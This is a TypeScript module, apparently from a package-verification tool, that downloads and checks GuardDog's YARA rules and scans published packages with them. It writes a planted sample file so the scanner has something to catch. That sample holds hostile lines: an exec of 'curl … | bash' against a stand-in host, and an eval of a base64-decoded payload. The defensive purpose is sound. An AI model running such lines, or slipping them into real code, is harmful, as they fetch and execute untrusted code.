import { createHash } from 'node:crypto';
import { mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { z } from 'zod/v4';

import { ensureFolder } from '../../platform/folders';
import { stateFolder } from '../../platform/paths';
import type { Progress } from '../../platform/progress';
import { run } from './run';

/**
 * The rules of GuardDog (Apache-2.0), which n8n's scanner is going to use. They are downloaded, not part of this
 * project.
 */
const GUARDDOG = {
	commit: 'ca8b5b43d1454c89c03fb2acecf0716781c2a745',
	folder: 'guarddog/analyzer/sourcecode',
	/** Of the files that are rules or are included by one. */
	sha256: 'd82059ab47a2bc44afa00ec54d40e2fcc6a2fc6d10ad4eb8011ebfcb66243cc0',
};

/** Contains what a package must never contain; every rule that it violates is a finding. */
const BAD_FILE = `const { exec } = require('child_process');
exec('curl -s https://files.example.org/setup.sh | bash');
eval(Buffer.from(process.env.PAYLOAD, 'base64').toString());
`;

/** The findings in one folder, each with its file, line and rule. */
export type Findings = readonly string[];

/** A digest of the rules in a folder. */
async function digestOf(folder: string): Promise<string> {
	const hash = createHash('sha256');
	for (const name of (await readdir(folder)).filter((each) => /\.(yar|meta)$/.test(each)).sort()) {
		hash.update(`${name}\0`).update(await readFile(join(folder, name)));
	}
	return hash.digest('hex');
}

/**
 * Returns the folder of GuardDog's rules.
 * @param given a folder with the rules, if GitHub cannot be reached
 * @throws Error if they cannot be downloaded, or are other rules
 */
export async function guardDogRules(given: string | undefined, progress: Progress): Promise<string> {
	const folder = given ?? join(await download(progress), GUARDDOG.folder);
	const digest = await digestOf(folder);
	if (digest !== GUARDDOG.sha256) {
		throw new Error(`${folder} does not contain the rules of ${GUARDDOG.commit}: its digest is ${digest}`);
	}
	return folder;
}

async function download(progress: Progress): Promise<string> {
	const { commit } = GUARDDOG;
	return await ensureFolder(join('verification', 'guarddog'), commit, progress, async (folder) => {
		progress.say(`Downloading GuardDog's rules …`);
		const response = await fetch(`https://codeload.github.com/DataDog/guarddog/tar.gz/${commit}`);
		if (!response.ok) throw new Error(`GuardDog's rules cannot be downloaded: ${response.status}`);
		const archive = join(folder, 'rules.tgz');
		await writeFile(archive, Buffer.from(await response.arrayBuffer()));
		await run('tar', ['-xzf', archive, '-C', folder, '--strip-components=1'], folder);
		await rm(archive);
	});
}

/** The findings in the files of published packages, and in a file that violates rules. */
export async function scanForThreats(
	tools: string,
	rules: string,
	packages: readonly string[],
): Promise<{ packages: Findings[]; planted: Findings }> {
	const bad = join(stateFolder, 'verification', 'planted');
	await mkdir(bad, { recursive: true });
	await writeFile(join(bad, 'index.js'), BAD_FILE);
	const script = join(__dirname, 'yara.mjs');
	const output = await run(process.execPath, [script, tools, rules, bad, ...packages], __dirname);
	const [planted = [], ...findings] = z.array(z.array(z.string())).parse(JSON.parse(output));
	return { packages: findings, planted };
}
